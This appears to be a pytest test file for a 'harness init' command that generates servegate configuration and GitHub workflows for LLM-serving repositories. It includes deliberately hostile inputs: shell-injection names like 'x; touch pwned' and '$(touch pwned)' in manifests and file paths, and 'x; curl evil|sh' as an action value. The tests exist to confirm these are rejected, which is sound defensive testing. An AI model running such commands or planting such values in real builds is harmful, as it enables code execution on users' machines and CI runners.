"""`harness init`: a repository shaped like vLLM, SGLang, llama.cpp, TGI, a Cargo server or a
Python server gets a servegate.toml that validates (and says what it assumed) and a workflow
that gates its pull requests with the servegate action; nothing recognised, or a file already
there, is exit 2 with one line and nothing written."""

from __future__ import annotations

import os

import pytest
import yaml

from harness.arms.project import load_project
from harness.workload.suite import shipped

from helpers import REPO, git
from helpers.adopt_repos import SHAPES, shaped_repo
from helpers.cli import cli, one_line_error

WORKFLOW = ".github/workflows/servegate.yml"
# shape -> (what init says it recognised, the serve command, the build, a GPU runner)
EXPECTED = {
    "vllm": ("vLLM", "{worktree}/.venv/bin/vllm serve {model} --port {port} {flags}",
             "VLLM_USE_PRECOMPILED=1 .venv/bin/pip install -e .", True),
    "sglang": ("SGLang", "{worktree}/.venv/bin/python -m sglang.launch_server --model-path "
               "{model} --port {port} --enable-metrics {flags}",
               ".venv/bin/pip install -e './python[all]'", True),
    "llama.cpp": ("llama.cpp", "{worktree}/build/bin/llama-server -m {model} --port {port} {flags}",
                  "CCACHE_NOHASHDIR=1 cmake --build build --target llama-server -j\"$(nproc)\"",
                  False),
    "tgi": ("TGI", "{worktree}/target/release/text-generation-launcher --model-id {model} "
            "--port {port} {flags}", "cargo build --release", True),
    "cargo": ("Cargo", "{worktree}/target/release/fast-serve --port {port} {flags}",
              "cargo build --release --locked", False),
    "python": ("Python", '{worktree}/.venv/bin/python -c "import sys; from tiny_serve.cli import '
               'main; sys.exit(main())" --port {port} {flags}', ".venv/bin/pip install -q .",
               False),
    "fastapi": ("FastAPI", "{worktree}/.venv/bin/python -m uvicorn app.main:app --port {port} "
                "{flags}", ".venv/bin/pip install -q -r requirements.txt", False),
}  # fmt: skip


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_init_writes_a_project_file_that_validates_and_a_workflow(tmp_path, shape):
    repo = shaped_repo(tmp_path / shape, SHAPES[shape])
    out = cli("init", cwd=repo)
    assert out.returncode == 0, out.stdout + out.stderr
    kind, serve, build, gpu = EXPECTED[shape]
    said = out.stdout.splitlines()
    assert said[0].startswith(f"recognised: {kind}: ")
    assumed = [line for line in said if line.startswith("assumed: ")]
    assert assumed and all(len(line) > len("assumed: ") for line in assumed)
    assert said[-3:-1] == ["wrote servegate.toml", f"wrote {WORKFLOW}"]

    project = load_project(repo / "servegate.toml")
    assert project.serve == serve
    assert project.build.endswith(build) if build else project.build == ""
    assert project.residency == "one-at-a-time"
    text = (repo / "servegate.toml").read_text()
    assert text.count("# check: ") >= len([a for a in assumed if "workflow" not in a])
    if gpu:
        assert project.ready_timeout == 900 and project.ready_path == "/health"
        assert project.model == "HuggingFaceTB/SmolLM2-135M-Instruct"
    if shape == "vllm":  # its KV gauge needs a scale from the first start: commented out
        assert project.gauges == ()
        assert '# gauges = ["vllm:kv_cache_usage_perc"]' in text
    if shape in ("python", "fastapi"):  # each commit's own environment, made by its build
        assert project.build.startswith("{python} -m venv .venv && ") and project.env == ()

    workflow = (repo / WORKFLOW).read_text()
    lines = [line.split("  # ")[0] for line in workflow.splitlines()]  # comments off
    for line in (
        "  pull_request:",
        "  contents: read",
        "  pull-requests: write",
        "  group: servegate-${{ github.ref }}",
        "  cancel-in-progress: true",
        "      - uses: actions/checkout@v4",
        "          fetch-depth: 0",
        "      - uses: actions/setup-python@v5",
        '          python-version: "3.11"',
        "      - uses: servegate/servegate@v1",
        "    runs-on: [self-hosted, gpu]" if gpu else "    runs-on: ubuntu-latest",
    ):
        assert line in lines, line
    suite = "gpu-chat" if gpu else "short-concurrency"  # a GPU gets a GPU-sized load
    assert f"          suites: {suite}" in lines and suite in shipped()
    assert "          budget-minutes: 45" in lines
    (step,) = [s for s in yaml.safe_load(workflow)["jobs"]["gate"]["steps"] if "with" in s
               and s.get("uses", "").startswith("servegate/")]  # fmt: skip
    assert set(step["with"]) <= set(yaml.safe_load((REPO / "action.yml").read_text())["inputs"])
    assert step["with"].get("extras") == ("gpu" if gpu else None)  # NVML for a GPU server
    guard = yaml.safe_load(workflow)["jobs"]["gate"].get("if", "")
    assert ("head.repo.full_name == github.repository" in guard) == gpu  # no fork on its runner

    # every verb takes the file: both arms planned from it (a dry run builds nothing)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "servegate: harness init's files")
    planned = cli("ab", "--base", "HEAD~1", "--head", "HEAD", "--dry-run", cwd=repo)
    assert planned.returncode == 0, planned.stdout + planned.stderr
    arms = [line for line in planned.stdout.splitlines() if line.startswith(("base:", "head:"))]
    assert len(arms) == 2 and all(" commit " in line for line in arms), planned.stdout
    assert project.suite == suite and f"suite: {suite} (" in planned.stdout  # as the workflow's
    asked = cli("ab", "--base", "HEAD~1", "--head", "HEAD", "--dry-run", "--suite", "smoke",
                cwd=repo)  # fmt: skip
    assert "suite: smoke (" in asked.stdout, asked.stdout + asked.stderr


def test_nothing_recognised_is_one_line_naming_what_was_looked_for(tmp_path):
    files = {"README.md": "a library\n", "lib/__init__.py": "", "lib/__main__.py": "print(1)\n"}
    repo = shaped_repo(tmp_path / "library", files)  # a __main__, but no endpoint in its source
    out = cli("init", "--dir", str(repo), cwd=tmp_path)
    one_line_error(out, "no server recognised")
    for what in ("vLLM", "SGLang", "llama-server", "Cargo", "/v1/chat/completions"):
        assert what in out.stderr
    assert "docs/projects.md" in out.stderr
    assert not (repo / "servegate.toml").exists() and not (repo / ".github").exists()


@pytest.mark.parametrize("existing", ["servegate.toml", WORKFLOW])
def test_an_existing_file_is_kept_unless_forced(tmp_path, existing):
    repo = shaped_repo(tmp_path / "cargo", SHAPES["cargo"])
    (repo / existing).parent.mkdir(parents=True, exist_ok=True)
    (repo / existing).write_text("mine\n")
    out = cli("init", cwd=repo)
    one_line_error(out, f"{existing} exists")
    assert (repo / existing).read_text() == "mine\n"
    assert len(list(repo.rglob("servegate.*"))) == 1  # the other file was not written either
    forced = cli("init", "--force", cwd=repo)
    assert forced.returncode == 0, forced.stderr
    assert (repo / existing).read_text() != "mine\n"
    load_project(repo / "servegate.toml")


def test_links_are_never_written_through(tmp_path):
    repo = shaped_repo(tmp_path / "cargo", SHAPES["cargo"])
    outside = tmp_path / "outside.toml"
    (repo / "servegate.toml").symlink_to(outside)  # dangling: a write would create it
    one_line_error(cli("init", cwd=repo), "servegate.toml exists")
    assert not outside.exists()
    forced = cli("init", "--force", cwd=repo)  # the link itself replaced by the file
    assert forced.returncode == 0, forced.stderr
    assert not outside.exists() and not (repo / "servegate.toml").is_symlink()
    (tmp_path / "elsewhere").mkdir()
    (repo / ".github" / "workflows" / "servegate.yml").unlink()
    (repo / ".github" / "workflows").rmdir()
    (repo / ".github" / "workflows").symlink_to(tmp_path / "elsewhere")
    one_line_error(cli("init", "--force", cwd=repo), "is a symbolic link: nothing written")
    assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.timeout(60)
def test_a_fifo_or_a_nested_file_in_the_repository_cannot_hang_or_crash_init(tmp_path):
    repo = shaped_repo(tmp_path / "python", SHAPES["python"])
    (repo / "pyproject.toml").unlink()
    os.mkfifo(repo / "pyproject.toml")  # nobody ever writes it
    os.mkfifo(repo / "src" / "tiny_serve" / "blocking.py")
    out = cli("init", cwd=repo)
    assert out.returncode in (0, 2) and "Traceback" not in out.stderr, out.stderr
    (repo / "pyproject.toml").unlink()
    (repo / "pyproject.toml").write_text("a = " + "[" * 50_000 + "]" * 50_000 + "\n")
    out = cli("init", "--force", cwd=repo)
    assert out.returncode in (0, 2) and "Traceback" not in out.stderr, out.stderr
    assert "RecursionError" not in out.stdout + out.stderr


def test_names_from_a_manifest_never_reach_the_serve_line_unchecked(tmp_path):
    evil = {
        "cargo": {**SHAPES["cargo"], "Cargo.toml": '[package]\nname = "fast-serve"\n'
                  '[[bin]]\nname = "x; touch pwned"\n[[bin]]\nname = "fast-serve"\n'},
        "python": {**SHAPES["python"], "pyproject.toml": '[project]\nname = "tiny-serve"\n'
                   '[project.scripts]\nevil = "tiny_serve.cli:main; touch pwned"\n'},
        "fastapi": {"x; touch pwned/main.py": SHAPES["fastapi"]["app/main.py"],
                    "app/$(touch pwned).py": SHAPES["fastapi"]["app/main.py"]},
    }  # fmt: skip
    for shape, files in evil.items():
        repo = shaped_repo(tmp_path / shape, files)
        out = cli("init", cwd=repo)
        assert "Traceback" not in out.stderr, out.stderr
        written = repo / "servegate.toml"
        assert not written.exists() or "pwned" not in written.read_text(), written.read_text()
    assert "target/release/fast-serve" in (tmp_path / "cargo" / "servegate.toml").read_text()


def test_one_action_reference_everywhere_and_another_when_asked(tmp_path):
    for text in ((REPO / "README.md").read_text(), (REPO / "docs" / "ci.md").read_text()):
        assert "servegate/servegate@v1" in text and "OWNER/servegate@v1" not in text
    release = (REPO / ".github" / "workflows" / "release.yml").read_text()
    assert 'git push -f origin "refs/tags/$major"' in release  # v1 follows each v1.x.y
    repo = shaped_repo(tmp_path / "cargo", SHAPES["cargo"])
    out = cli("init", "--action", "team/servegate-fork@v1.2.0", cwd=repo)
    assert out.returncode == 0, out.stderr
    assert "uses: team/servegate-fork@v1.2.0" in (repo / WORKFLOW).read_text()
    bad = cli("init", "--force", "--action", "x; curl evil|sh", cwd=repo)
    one_line_error(bad, "is not OWNER/REPO@REF nor ./PATH")
